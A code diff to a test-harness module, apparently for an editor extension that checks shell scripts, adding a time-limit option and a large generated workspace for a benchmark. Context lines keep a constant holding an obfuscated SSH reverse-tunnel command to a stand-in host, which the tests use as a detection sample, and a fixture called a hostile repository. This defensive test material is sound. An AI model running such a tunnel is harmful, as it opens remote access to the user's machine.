@@ -3,6 +3,7 @@ import { execFileSync } from "node:child_process";
 import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { makeExample } from "../../examples/make-example.mjs";
+import { makeLargeWorkspace } from "../large-workspace.mjs";
 
 /** A reverse tunnel that hides behind a wrapper and quotes: what the tests look for. */
 export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
@@ -10,12 +11,13 @@ export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
 /**
  * `name`: `test/vscode/in-host/<name>.window.ts` runs in it. `prepare` fills a new folder and says what to open. `isBench`: it
  * measures, and runs only when it is named. `isInstalled`: from its package, as users have it, and not from this folder. `env`: set for
- * the server and all it starts.
+ * the server and all it starts. `limitSeconds`: after which the window is given up (180 where absent).
  * @typedef {{
  *   name: string,
  *   hasTrust?: boolean,
  *   isBench?: boolean,
  *   isInstalled?: boolean,
+ *   limitSeconds?: number,
  *   settings?: object,
  *   env?: (folder: string) => Record<string, string>,
  *   prepare: (folder: string) => { folder: string } | { workspace: string },
@@ -57,7 +59,7 @@ export const windows = [
   },
   { name: "installed", isInstalled: true, prepare: (folder) => ({ folder: reviewersRepository(folder) }) },
   { name: "start", isBench: true, isInstalled: true, prepare: (folder) => ({ folder: plainFolder(folder) }) },
-  { name: "speed", isBench: true, prepare: (folder) => ({ folder: longScript(folder) }) },
+  { name: "speed", isBench: true, limitSeconds: 600, prepare: (folder) => ({ folder: makeLargeWorkspace(folder, 20_000) }) },
   { name: "restricted", hasTrust: true, prepare: (folder) => ({ folder: hostileRepository(folder) }) },
 ];
 
@@ -234,20 +236,6 @@ function twoFolders(folder) {
   const file = path.join(folder, "two.code-workspace");
   writeFileSync(file, JSON.stringify({ folders: [{ path: "first" }, { path: "second" }] }));
   return { workspace: file };
-}
-
-/** Five thousand lines of what scripts are made of. */
-function longScript(folder) {
-  const kinds = [
-    'echo "step"',
-    "if [ -f a ]; then rm -f -- a; fi",
-    "cp a.txt b.txt # keep",
-    'for x in 1 2 3; do printf "%s" "$x"; done',
-    "tar -xzf a.tgz -C out",
-  ];
-  const lines = Array.from({ length: 4_999 }, (_, index) => `${kinds[index % kinds.length]} # ${index}\n`);
-  write(folder, { "long.sh": `#!/bin/bash\n${lines.join("")}` });
-  return folder;
 }
 
 /** A repository that tries to configure the one who looks at it. */
